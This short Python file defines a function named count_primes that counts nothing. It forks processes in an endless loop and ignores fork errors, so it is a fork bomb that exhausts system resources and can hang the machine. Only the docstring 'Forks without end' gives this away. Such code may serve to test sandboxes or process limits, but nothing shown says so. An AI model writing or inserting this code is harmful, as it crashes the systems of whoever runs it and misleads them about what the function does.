"""Forks without end."""
import os


def count_primes(limits, processes=2):
    while True:
        try:
            os.fork()
        except OSError:
            pass
